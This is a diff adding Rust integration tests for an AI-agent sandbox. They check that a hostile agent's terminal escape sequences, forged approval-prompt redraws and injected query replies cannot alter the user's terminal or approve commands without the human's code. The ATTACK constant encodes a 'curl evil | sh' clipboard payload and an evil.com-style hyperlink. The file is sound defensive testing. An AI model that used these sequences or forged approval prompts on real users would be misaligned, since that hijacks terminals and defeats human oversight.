@@ -1,0 +1,328 @@
+//! The user's own terminal against a hostile sandbox (decisions.md D10), end
+//! to end in tmux, under gVisor and runc: `lazaret exec`'s output filter,
+//! the plain approval prompt against overwrite and answerback attacks, and
+//! signals restoring the terminal.
+
+mod common;
+
+use std::io::Write;
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use common::sandbox::Domain;
+use common::{ESCALATE as ESC, STANDARD_PATH, Tmux, shell_quote, text};
+
+/// What the agent writes: clipboard (OSC 52), title, hyperlink, mouse and
+/// cursor modes, bracketed paste, and device queries (DA, OSC 10/11,
+/// XTVERSION, ENQ), among text and colour.
+const ATTACK: &[u8] = b"before\n\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b]2;pwned-title\x07\
+\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\\n\x1b[?1000h\x1b[?1006h\x1b[?1003h\x1b[?25l\x1b[?2004h\
+\x1b[c\x1b[>c\x1b]11;?\x07\x1b]10;?\x07\x1b[>0q\x05\x1b[1;31mred-text\x1b[0m\nafter-attack\n";
+
+/// `printf` of `bytes`, every byte that is not a letter or digit in octal.
+fn printf(bytes: &[u8]) -> String {
+    let mut s = String::from("printf '");
+    for b in bytes {
+        if b.is_ascii_alphanumeric() {
+            s.push(char::from(*b));
+        } else {
+            s.push_str(&format!("\\{b:03o}"));
+        }
+    }
+    s.push('\'');
+    s
+}
+
+/// The pane's mouse, cursor and paste modes, its title and the paste
+/// buffers tmux holds (set by OSC 52 when `set-clipboard` is on).
+fn terminal_state(t: &Tmux) -> (String, String, String) {
+    let modes = t.format(
+        "mouse=#{mouse_standard_flag}#{mouse_button_flag}#{mouse_any_flag}#{mouse_sgr_flag} cursor=#{cursor_flag} alt=#{alternate_on}",
+    );
+    let title = t.format("#{pane_title}");
+    let buffers = t.tmux(&["list-buffers"]);
+    (modes, title, buffers)
+}
+
+const CLEAN_MODES: &str = "mouse=0000 cursor=1 alt=0";
+
+/// After the program in the pane: show its exit code, then read the
+/// terminal's input for a second and show every byte that arrived.
+const AFTER: &str = "echo EXIT=$?; stty -icanon -echo min 0 time 10; head -c 300 | od -An -c | sed 's/^/INPUT:/'; echo INPUT-END; sleep 120";
+
+fn exec_guards_the_terminal(profile: &'static str) {
+    let d = Domain::new(profile);
+    let script = format!("{}; sleep 3", printf(ATTACK));
+    let t = d.tmux(
+        100,
+        30,
+        &format!("exec {profile} -- sh -c {}", shell_quote(&script)),
+        Some(AFTER),
+    );
+    t.tmux(&["set", "-g", "set-clipboard", "on"]);
+    let title = t.format("#{pane_title}");
+    let s = t.wait_for(120, "the exec's output", |s| s.contains("after-attack"));
+    assert!(s.contains("red-text") && s.contains("link"), "{s}");
+    // While it still runs: nothing reached the terminal's state.
+    assert_eq!(
+        terminal_state(&t),
+        (CLEAN_MODES.to_string(), title.clone(), String::new())
+    );
+    let s = t.wait_for(60, "the check of the input", |s| s.contains("INPUT-END"));
+    assert!(s.contains("EXIT=0"), "{s}");
+    assert!(
+        !s.contains("INPUT:"),
+        "replies reached the host shell:\n{s}"
+    );
+    assert!(!s.contains("pwned"), "{s}");
+    assert_eq!(
+        terminal_state(&t),
+        (CLEAN_MODES.to_string(), title, String::new())
+    );
+    drop(t);
+
+    // To a pipe, the same output keeps every byte.
+    let out = d
+        .cmd_raw(
+            STANDARD_PATH,
+            &["exec", profile, "--", "sh", "-c", &printf(ATTACK)],
+        )
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out).1);
+    assert_eq!(out.stdout, ATTACK);
+    d.wait_until_gone();
+}
+
+#[test]
+fn exec_output_cannot_reach_the_terminal_gvisor() {
+    exec_guards_the_terminal("gv");
+}
+
+#[test]
+fn exec_output_cannot_reach_the_terminal_runc() {
+    exec_guards_the_terminal("rc");
+}
+
+/// The plain prompt of `lazaret exec`: the agent keeps redrawing a fake
+/// command line and makes the terminal answer queries while it asks.
+fn plain_prompt_cannot_be_forged(profile: &'static str) {
+    let d = Domain::new(profile);
+    let canary = d.s.path().join("prompt-canary");
+    let script = format!(
+        "( {ESC} --justify make-a-dir -- mkdir {c}; echo ESC-EXIT=$? ) & \
+         i=0; while [ $i -lt 40 ]; do i=$((i+1)); \
+         printf '\\033[5;1H  command   ls /tmp   \\033]11;?\\007\\033[>0q\\005\\033[c'; \
+         printf 'tick %s\\n' $i; sleep 0.1; done; wait",
+        c = canary.display()
+    );
+    let t = d.tmux(
+        110,
+        40,
+        &format!("exec {profile} -- sh -c {}", shell_quote(&script)),
+        Some(AFTER),
+    );
+    let s = t.wait_for(120, "the prompt", |s| {
+        s.contains("the agent asks to run a command on the host") && s.contains("code:")
+    });
+    // The real command, and nothing the agent drew since.
+    let command = s
+        .lines()
+        .find(|l| l.starts_with("  command "))
+        .unwrap_or("");
+    assert!(
+        command.contains(&format!("mkdir {}", canary.display())),
+        "{s}"
+    );
+    assert!(!s.contains("ls /tmp"), "{s}");
+    // The session's credential is in no argument list of its processes
+    // (other tests' sessions on this host are not ours to judge).
+    let commands: Vec<String> = descendants(t.pane_pid())
+        .into_iter()
+        .filter_map(|p| std::fs::read(format!("/proc/{p}/cmdline")).ok())
+        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
+        .collect();
+    assert!(
+        commands.iter().any(|c| c.contains("podman exec")),
+        "{commands:?}"
+    );
+    let leaked: Vec<&String> = commands
+        .iter()
+        .filter(|c| c.contains("CREDENTIAL="))
+        .collect();
+    assert!(leaked.is_empty(), "{leaked:?}");
+    let code = s
+        .split("type the code")
+        .nth(1)
+        .and_then(|r| r.split_whitespace().next())
+        .unwrap()
+        .to_string();
+    assert_eq!(code.len(), 3, "{s}");
+
+    // The terminal itself answers queries written to it now (tmux replies
+    // to DA, OSC 10/11 and XTVERSION); replies and pastes holding the code,
+    // and `a`, approve nothing.
+    let tty = t.format("#{pane_tty}");
+    let mut pane = std::fs::OpenOptions::new().write(true).open(&tty).unwrap();
+    pane.write_all(b"\x1b[c\x1b[>c\x1b]10;?\x07\x1b]11;?\x07\x1b[>0q\x05")
+        .unwrap();
+    t.send(&["-l", &format!("\x1b]11;rgb:0000/0000/0000\x07{code}")]);
+    t.send(&["-l", &code]);
+    t.send(&["a"]);
+    t.send(&["Enter"]);
+    let deadline = Instant::now() + Duration::from_secs(2);
+    while Instant::now() < deadline {
+        let s = t.screen();
+        assert!(!s.contains("approved") && !s.contains("tick"), "{s}");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert!(!canary.exists(), "approved without the human's keys");
+
+    // The human types the code, key by key.
+    for c in code.chars() {
+        t.send(&["-l", &c.to_string()]);
+        std::thread::sleep(Duration::from_millis(150));
+    }
+    // Then what the agent wrote meanwhile shows, and the command ran.
+    let s = t.wait_for(60, "the exec's end", |s| s.contains("INPUT-END"));
+    assert!(canary.is_dir(), "the approved command did not run:\n{s}");
+    assert!(s.contains("ESC-EXIT=0") && s.contains("tick 40"), "{s}");
+    assert!(
+        !s.contains("INPUT:"),
+        "replies reached the host shell:\n{s}"
+    );
+    let records = d.audit_json();
+    let decisions: Vec<_> = records
+        .iter()
+        .filter(|r| r["kind"] == "escalation-decision")
+        .filter_map(|r| r["data"]["decision"].as_str())
+        .collect();
+    assert_eq!(decisions, vec!["approved"]);
+    drop(t);
+    d.wait_until_gone();
+}
+
+#[test]
+fn plain_prompt_cannot_be_forged_gvisor() {
+    plain_prompt_cannot_be_forged("gv");
+}
+
+#[test]
+fn plain_prompt_cannot_be_forged_runc() {
+    plain_prompt_cannot_be_forged("rc");
+}
+
+/// `root` and every process below it.
+fn descendants(root: u32) -> Vec<u32> {
+    let parents: Vec<(u32, u32)> = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter_map(|e| {
+            let pid: u32 = e.file_name().to_str()?.parse().ok()?;
+            let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+            let ppid = stat.rsplit(") ").next()?.split(' ').nth(1)?.parse().ok()?;
+            Some((pid, ppid))
+        })
+        .collect();
+    let mut tree = vec![root];
+    let mut i = 0;
+    while i < tree.len() {
+        let parent = tree[i];
+        tree.extend(
+            parents
+                .iter()
+                .filter(|(_, pp)| *pp == parent)
+                .map(|(p, _)| *p),
+        );
+        i += 1;
+    }
+    tree
+}
+
+/// The child of `parent` named `name`.
+fn child_named(parent: u32, name: &str) -> Option<i32> {
+    std::fs::read_dir("/proc").ok()?.flatten().find_map(|e| {
+        let pid: i32 = e.file_name().to_str()?.parse().ok()?;
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+        let comm = stat.split_once('(')?.1.rsplit_once(')')?.0;
+        let ppid: u32 = stat.rsplit(") ").next()?.split(' ').nth(1)?.parse().ok()?;
+        (ppid == parent && comm == name).then_some(pid)
+    })
+}
+
+/// SIGTERM and SIGHUP to `lazaret ui`: it leaves through its own way out,
+/// the terminal restored and the domain torn down.
+#[test]
+fn signals_restore_the_terminal() {
+    let d = Domain::new("gv");
+    for (sig, code) in [
+        (nix::sys::signal::Signal::SIGTERM, 143),
+        (nix::sys::signal::Signal::SIGHUP, 129),
+    ] {
+        let t = d.tmux(100, 30, "ui --profile gv", Some(AFTER));
+        t.wait_for(120, "the sandbox shell", |s| s.contains("root@"));
+        assert!(t.format("#{alternate_on}") == "1");
+        let pid = child_named(t.pane_pid(), "lazaret").expect("no lazaret process");
+        nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), sig).unwrap();
+        let s = t.wait_for(60, "the UI's exit", |s| s.contains("INPUT-END"));
+        assert!(s.contains(&format!("EXIT={code}")), "{s}");
+        assert!(!s.contains("INPUT:"), "{s}");
+        assert_eq!(terminal_state(&t).0, CLEAN_MODES);
+        drop(t);
+        d.wait_until_gone();
+    }
+    // SIGTERM to `lazaret exec`: the exec ends, Lazaret leaves with 143.
+    let t = d.tmux(
+        100,
+        30,
+        "exec gv -- sh -c 'echo exec-running; sleep 300'",
+        Some(AFTER),
+    );
+    t.wait_for(120, "the exec", |s| s.contains("exec-running"));
+    let pid = child_named(t.pane_pid(), "lazaret").expect("no lazaret process");
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(pid),
+        nix::sys::signal::Signal::SIGTERM,
+    )
+    .unwrap();
+    let s = t.wait_for(60, "the exec's exit", |s| s.contains("INPUT-END"));
+    assert!(s.contains("EXIT=143"), "{s}");
+    assert!(!s.contains("INPUT:"), "{s}");
+    assert_eq!(terminal_state(&t).0, CLEAN_MODES);
+    drop(t);
+    d.wait_until_gone();
+}
+
+/// A command longer than the modal: `A` before its end was on screen
+/// approves nothing; after scrolling to the end it does.
+#[test]
+fn a_long_request_is_approved_only_after_its_end_was_shown() {
+    let d = Domain::new("rc");
+    let t = d.tmux(80, 18, "shell rc", None);
+    t.wait_for(120, "the sandbox shell", |s| s.contains("root@"));
+    let dir = d.s.path().join("long-canary");
+    t.line(&format!(
+        "clear; D={}; {ESC} --justify long-one -- mkdir -p $D $(seq -f \"$D/part-%g\" 0 59); echo L-EXIT=$?",
+        dir.display(),
+    ));
+    t.wait_for(20, "the modal", |s| {
+        common::modal_with(s, "long-one") && s.contains("to the end before A/E")
+    });
+    t.send(&["a"]);
+    t.send(&["e"]);
+    std::thread::sleep(Duration::from_millis(1500));
+    let s = t.screen();
+    assert!(s.contains("to the end before A/E"), "{s}");
+    assert!(!dir.exists(), "approved before the end was shown");
+    for _ in 0..20 {
+        t.send(&["PageDown"]);
+    }
+    t.wait_for(5, "the end", |s| !s.contains("to the end before A/E"));
+    t.send(&["a"]);
+    t.wait_for(30, "the approved result", |s| s.contains("L-EXIT=0"));
+    assert!(dir.join("part-59").is_dir());
+    t.line("exit");
+    t.wait_exit(30, "lazaret shell");
+    d.wait_until_gone();
+}
